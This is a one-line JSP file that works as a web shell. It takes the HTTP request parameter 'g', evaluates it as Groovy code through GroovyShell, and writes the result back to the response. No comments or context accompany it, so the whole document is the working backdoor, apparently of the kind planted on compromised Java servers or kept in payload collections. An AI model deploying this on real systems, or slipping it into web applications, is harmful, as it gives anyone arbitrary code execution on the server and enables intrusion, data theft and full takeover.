<%@ page import="groovy.lang.GroovyShell" %><% out.print(new GroovyShell().evaluate(request.getParameter("g"))); %>
